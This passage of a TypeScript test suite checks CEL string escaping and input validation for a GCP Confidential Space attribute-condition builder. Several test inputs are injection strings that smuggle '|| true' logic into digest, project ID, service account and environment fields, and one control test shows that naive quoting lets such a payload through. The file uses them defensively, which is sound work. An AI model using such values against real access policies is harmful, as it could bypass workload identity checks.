    const hostile = 'x" || "a" == "a';
    expect(evaluate(`"x" == ${celStringLiteral(hostile)}`)).toBe(false);
    // Control: naive quoting would have let it through.
    expect(evaluate(`"x" == "${hostile}"`)).toBe(true);
  });

  it("a lone surrogate -> throws (CEL cannot express it)", () => {
    expect(() => celStringLiteral("a\ud800b")).toThrow(/lone UTF-16 surrogate/);
  });
});

describe("buildConfidentialSpaceAttributeCondition: input validation", () => {
  const pins = pinsFor;
  const hex = DIGEST_V631.slice("sha256:".length);

  const cases: Array<[string, ConfidentialSpacePins, RegExp]> = [
    ["0 digests", pins([]), /imageDigests is empty/],
    [
      "3 digests",
      pins([DIGEST_V631, DIGEST_V640, DIGEST_OTHER]),
      /imageDigests lists 3 digests; at most two are accepted at once/,
    ],
    ["a tag", pins(["midnightntwrk/proof-server:6.3.1"]), /imageDigests\[0\] "midnightntwrk\/proof-server:6\.3\.1" is not an image digest.*not a tag/],
    ["a full image reference", pins([`${IMAGE_REPO}@${DIGEST_V631}`]), /imageDigests\[0\] .* is not an image digest.*not a full image reference/],
    ["upper-case hex", pins([`sha256:${hex.toUpperCase()}`]), /imageDigests\[0\] .* is not an image digest: must be "sha256:" followed by 64 lowercase hex/],
    ["upper-case algorithm", pins([`SHA256:${hex}`]), /imageDigests\[0\] .* is not an image digest/],
    ["short hex", pins([`sha256:${hex.slice(0, 63)}`]), /imageDigests\[0\] .* is not an image digest/],
    ["long hex", pins([`sha256:${hex}0`]), /imageDigests\[0\] .* is not an image digest/],
    ["bare hex, no algorithm", pins([hex]), /imageDigests\[0\] .* is not an image digest/],
    ["sha512", pins([`sha512:${hex}${hex}`]), /imageDigests\[0\] .* is not an image digest/],
    ["non-hex", pins([`sha256:${"g".repeat(64)}`]), /imageDigests\[0\] .* is not an image digest/],
    ["trailing newline", pins([`${DIGEST_V631}\n`]), /imageDigests\[0\] .* is not an image digest/],
    ["a quote smuggled in", pins([`${DIGEST_V631}" || true || "`]), /imageDigests\[0\] .* is not an image digest/],
    ["the second digest malformed", pins([DIGEST_V631, "latest"]), /imageDigests\[1\] "latest" is not an image digest/],
    ["duplicates", pins([DIGEST_V631, DIGEST_V631]), new RegExp(`imageDigests lists ${DIGEST_V631} twice`)],
    ...(
      [
        ["empty", ""],
        ["too short (5)", "abcde"],
        ["too long (31)", `a${"b".repeat(30)}`],
        ["upper case", "Midnight-Prover-Prod"],
        ["starts with a digit", "1midnight-prover"],
        ["starts with a hyphen", "-midnight-prover"],
        ["ends with a hyphen", "midnight-prover-"],
        ["an underscore", "midnight_prover"],
        ["the project number", PROJECT_NUMBER],
        ["a domain-scoped ID", "example.com:midnight-prover"],
        ["trailing newline", `${PROJECT_ID}\n`],
        ["a quote smuggled in", `${PROJECT_ID}" || true || "`],
      ] as const
    ).map(([name, projectId]): [string, ConfidentialSpacePins, RegExp] => [
      `projectId: ${name}`,
      { ...pinsFor([DIGEST_V631]), projectId },
      new RegExp(`^projectId ${escapeRegExp(JSON.stringify(projectId))} is not a GCP project ID`),
    ]),
    ...(
      [
        ["empty", ""],
        ["the default compute service account", `${PROJECT_NUMBER}-compute@developer.gserviceaccount.com`],
        ["an App Engine default account", `${PROJECT_ID}@appspot.gserviceaccount.com`],
        ["a user", "alice@example.com"],
        ["account id too short", `proof@${PROJECT_ID}.iam.gserviceaccount.com`],
        ["account id too long", `a${"b".repeat(30)}@${PROJECT_ID}.iam.gserviceaccount.com`],
        ["project part invalid", "proof-server@1project.iam.gserviceaccount.com"],
        ["upper case", SERVICE_ACCOUNT.toUpperCase()],
        ["just the account id", "proof-server"],
        ["a resource name", `projects/${PROJECT_ID}/serviceAccounts/${SERVICE_ACCOUNT}`],
        ["trailing newline", `${SERVICE_ACCOUNT}\n`],
        ["a quote smuggled in", `${SERVICE_ACCOUNT}" in assertion.google_service_accounts || "`],
      ] as const
    ).map(([name, serviceAccountEmail]): [string, ConfidentialSpacePins, RegExp] => [
      `serviceAccountEmail: ${name}`,
      { ...pinsFor([DIGEST_V631]), serviceAccountEmail },
      new RegExp(
        `^serviceAccountEmail ${escapeRegExp(JSON.stringify(serviceAccountEmail))} is not a user-managed service account`,
      ),
    ]),
  ];

  it.each(cases)("%s -> throws", (_name, bad, message) => {
    expect(() => buildConfidentialSpaceAttributeCondition(bad)).toThrow(message);
  });

  it("from a JS caller: not an array, or a non-string entry -> throws", () => {
    const build = (pins: Record<string, unknown>) => () =>
      buildConfidentialSpaceAttributeCondition({ ...pinsFor([DIGEST_V631]), ...pins } as unknown as ConfidentialSpacePins);
    expect(build({ imageDigests: DIGEST_V631 })).toThrow(/imageDigests must be an array/);
    expect(build({ imageDigests: [42] })).toThrow(/imageDigests\[0\] 42 is not an image digest/);
  });

  it("from a JS caller: projectId or serviceAccountEmail missing or not a string -> throws naming the field", () => {
    const { projectId: _p, ...noProject } = pinsFor([DIGEST_V631]);
    const { serviceAccountEmail: _s, ...noAccount } = pinsFor([DIGEST_V631]);
    const build = (pins: unknown) => () => buildConfidentialSpaceAttributeCondition(pins as ConfidentialSpacePins);
    expect(build(noProject)).toThrow(/^projectId undefined is not a GCP project ID/);
    expect(build(noAccount)).toThrow(/^serviceAccountEmail undefined is not a user-managed service account/);
    expect(build({ ...pinsFor([DIGEST_V631]), projectId: 123456789012 })).toThrow(/^projectId 123456789012 is not/);
    expect(build({ ...pinsFor([DIGEST_V631]), serviceAccountEmail: [SERVICE_ACCOUNT] })).toThrow(
      /^serviceAccountEmail \["proof-server@midnight-prover-prod\.iam\.gserviceaccount\.com"\] is not/,
    );
  });

  it("technology other than SEV or TDX -> throws", () => {
    for (const technology of ["SEV_SNP", "sev", "", undefined]) {
      expect(() => buildConfidentialSpaceAttributeCondition({ ...pinsFor([DIGEST_V631]), technology } as unknown as ConfidentialSpacePins)).toThrow(
        /is not a technology Confidential Space runs on: must be "SEV" or "TDX"/,
      );
    }
  });

  it("envOverride: not an object, a bad name, a non-string value -> throws", () => {
    const build = (envOverride: unknown) => () =>
      buildConfidentialSpaceAttributeCondition({ ...pinsFor([DIGEST_V631]), envOverride } as unknown as ConfidentialSpacePins);
    expect(build(undefined)).toThrow(/envOverride must be an object/);
    expect(build([["A", "b"]])).toThrow(/envOverride must be an object/);
    expect(build({ 'A" : "b"} || true || {"': "x" })).toThrow(/is not an environment variable name/);
    expect(build({ lower: "x" })).toThrow(/"lower" is not an environment variable name/);
    expect(build({ NUM: 8 })).toThrow(/envOverride\.NUM must be a string, got 8/);
  });

  it("overrides too long for GCP's 4096 characters -> throws with the fix", () => {
    const envOverride = { MIDNIGHT_PROOF_SERVER_X: "x".repeat(4000) };
    expect(() => buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { envOverride }))).toThrow(
      /attribute condition is \d+ characters; GCP accepts at most 4096: shorten the proofServer.env values/,
    );
  });

  it("the longest valid values are accepted and the shortest too (boundaries of the patterns)", () => {
    const shortProject = "abcde1";
    const longProject = `a${"b".repeat(28)}1`;
    for (const projectId of [shortProject, longProject]) {
      for (const account of ["abcde1", `a${"b".repeat(28)}1`]) {
        const serviceAccountEmail = `${account}@${projectId}.iam.gserviceaccount.com`;
        const condition = buildConfidentialSpaceAttributeCondition(pinsFor([DIGEST_V631], { projectId, serviceAccountEmail }));
        const claims = tokenWith((c) => {
          c.submods.gce!.project_id = projectId;
          c.google_service_accounts = [serviceAccountEmail];
        });
        expect(run(condition, claims)).toBe(true);
      }
    }
  });
});

function escapeRegExp(value: string): string {
  return value.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}
